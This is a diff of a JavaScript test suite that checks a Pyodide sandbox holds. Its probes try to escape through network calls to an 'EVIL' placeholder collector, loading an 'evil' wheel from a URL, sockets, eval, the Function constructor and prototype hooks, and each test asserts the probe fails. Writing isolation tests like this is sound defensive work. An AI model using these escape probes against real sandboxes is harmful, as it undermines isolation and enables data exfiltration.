@@ -5,13 +5,19 @@ import { test } from "./harness.mjs";
 // Each must end in an error of the named class, or in the named value.
 const PROBES = {
   "js.fetch": ["import js; await js.fetch('EVIL/fetch')", "JsException|TypeError"],
-  "the prototype's fetch": ["import js; js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch", "AttributeError"],
+  "the prototype's fetch": [
+    "import js; js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch",
+    "AttributeError",
+  ],
   "deleting the shim": ["import js; del js.fetch", "."],
   pyfetch: ["from pyodide.http import pyfetch; await pyfetch('EVIL/pyfetch')", "."],
   open_url: ["from pyodide.http import open_url; open_url('EVIL/open_url')", "."],
   urllib: ["import urllib.request; urllib.request.urlopen('EVIL/urllib', timeout=2)", "URLError|OSError"],
   socket: ["import socket; socket.create_connection(('127.0.0.1', PORT), 2)", "OSError|Error"],
-  "loadPackage from a URL": ["import pyodide_js; await pyodide_js.loadPackage('EVIL/evil-1.0-py3-none-any.whl'); import evil", "."],
+  "loadPackage from a URL": [
+    "import pyodide_js; await pyodide_js.loadPackage('EVIL/evil-1.0-py3-none-any.whl'); import evil",
+    ".",
+  ],
   XMLHttpRequest: ["import js; js.XMLHttpRequest", "AttributeError"],
   WebSocket: ["import js; js.WebSocket.new('ws://127.0.0.1:PORT/ws')", "AttributeError"],
   EventSource: ["import js; js.EventSource", "AttributeError"],
@@ -21,9 +27,12 @@ const PROBES = {
   "a worker from a blob": ["import js; js.URL.createObjectURL(js.Blob.new([]))", "AttributeError"],
   "js.eval": ["import js; js.eval('1')", "JsException|EvalError"],
   run_js: ["from pyodide.code import run_js; run_js('1')", "JsException|EvalError"],
-  "a function constructor": ["import js; js.Object.getPrototypeOf(js.Object.getPrototypeOf).constructor('return 1')()", "."],
+  "a function constructor": [
+    "import js; js.Object.getPrototypeOf(js.Object.getPrototypeOf).constructor('return 1')()",
+    ".",
+  ],
   "setTimeout with a text": [
-    "import js, asyncio; js.self.zz = 0; js.setTimeout('self.zz = 1', 0); await asyncio.sleep(0.05); assert js.self.zz == 1",
+    "import js, asyncio; js.self.zz = 0; js.setTimeout('self.zz = 1', 0); await asyncio.sleep(0.05); zz = js.self.zz; del js.self.zz; assert zz == 1",
     "AssertionError|JsException",
   ],
   indexedDB: ["import js; js.indexedDB", "AttributeError"],
@@ -43,27 +52,14 @@ test("no probe gets out, and the kernel survives them all", async ({ isolated, s
   server.hits.length = 0;
   const port = new URL(server.collector).port;
   for (const [name, [code, expected]] of Object.entries(PROBES)) {
-    const run = await isolated.fresh(code.replaceAll("EVIL", server.collector).replaceAll("PORT", port), { deadline: 5000 });
+    const run = await isolated.fresh(code.replaceAll("EVIL", server.collector).replaceAll("PORT", port), {
+      deadline: 5000,
+    });
     assert.equal(run.status, "error", `${name} succeeded with ${JSON.stringify(run.result)}`);
     assert.match(run.ename ?? "", new RegExp(`^(${expected})`), `${name}: ${run.ename}: ${run.evalue}`);
   }
   assert.equal((await isolated.fresh("1 + 1")).result, 2);
   assert.deepEqual(server.hits, []);
-});
-
-test("hooks on the language's own tools see nothing of the bridge", async ({ isolated }) => {
-  await isolated.fresh("import js\nfrom pyodide.ffi import create_proxy\nseen = []\nold = js.JSON.stringify");
-  const hooks = {
-    "js.JSON.stringify = create_proxy(lambda *a: (seen.append(1), old(*a))[1])": "js.JSON.stringify = old",
-    "js.TextEncoder.prototype.encode = create_proxy(lambda *a: seen.append(1))": "del js.TextEncoder.prototype.encode",
-    "js.Object.prototype.toJSON = create_proxy(lambda *a: seen.append(1))": "del js.Object.prototype.toJSON",
-  };
-  for (const [hook, undo] of Object.entries(hooks)) {
-    const run = await isolated.run(`${hook}\nprint('y' * 40000)\ndisplay(1)\n${undo}\nseen`);
-    assert.deepEqual(run.result, [], hook);
-    assert.equal(run.stdout.length, 40001, hook);
-  }
-  await isolated.evaluate(() => kernel.dispose());
 });
 
 test("after boot the worker's globals are on the allow-list, on every prototype", async ({ isolated }) => {
@@ -84,11 +80,24 @@ test("after boot the worker's globals are on the allow-list, on every prototype"
   assert.deepEqual(extra, []);
 });
 
+test("hooks on the language's own tools see nothing of the bridge", async ({ isolated }) => {
+  await isolated.fresh("import js\nfrom pyodide.ffi import create_proxy\nseen = []\nold = js.JSON.stringify");
+  const hooks = {
+    "js.JSON.stringify = create_proxy(lambda *a: (seen.append(1), old(*a))[1])": "js.JSON.stringify = old",
+    "js.TextEncoder.prototype.encode = create_proxy(lambda *a: seen.append(1))": "del js.TextEncoder.prototype.encode",
+    "js.Object.prototype.toJSON = create_proxy(lambda *a: seen.append(1))": "del js.Object.prototype.toJSON",
+  };
+  for (const [hook, undo] of Object.entries(hooks)) {
+    const run = await isolated.run(`${hook}\nprint('y' * 40000)\ndisplay(1)\n${undo}\nseen`);
+    assert.deepEqual(run.result, [], hook);
+    assert.equal(run.stdout.length, 40001, hook);
+  }
+});
+
 test("the memory maximum holds", async ({ plain }) => {
-  await plain.kernel("capped", { maxPages: 4096 });
-  const run = await plain.run(
-    "blocks, n = [], 0\ntry:\n  while True: blocks.append(bytearray(16 * 2**20)); n += 16\nexcept MemoryError: pass\nblocks = None\nn",
+  const run = await plain.fresh(
+    "blocks, n = [], 0\ntry:\n  while True: blocks.append(bytearray(64 * 2**20)); n += 64\nexcept MemoryError: pass\nblocks = None\nn",
   );
-  assert.ok(run.result > 100 && run.result < 256, `${run.result} MB`);
+  assert.ok(run.result > 100 && run.result < 512, `${run.result} MB`);
   assert.equal((await plain.run("1 + 1")).result, 2);
 });
